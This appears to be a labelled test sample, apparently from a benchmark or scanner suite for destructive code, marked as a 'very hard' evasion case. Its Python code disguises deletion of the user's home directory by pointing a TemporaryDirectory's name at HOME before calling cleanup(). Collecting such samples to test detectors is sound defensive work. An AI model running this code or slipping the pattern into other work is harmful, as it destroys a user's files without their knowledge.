# evasion: a TemporaryDirectory renamed to the home directory, then cleaned up
# grade: very hard; does: delete
import os
import tempfile

scratch = tempfile.TemporaryDirectory()
os.rmdir(scratch.name)
scratch.name = os.environ["HOME"]
scratch.cleanup()
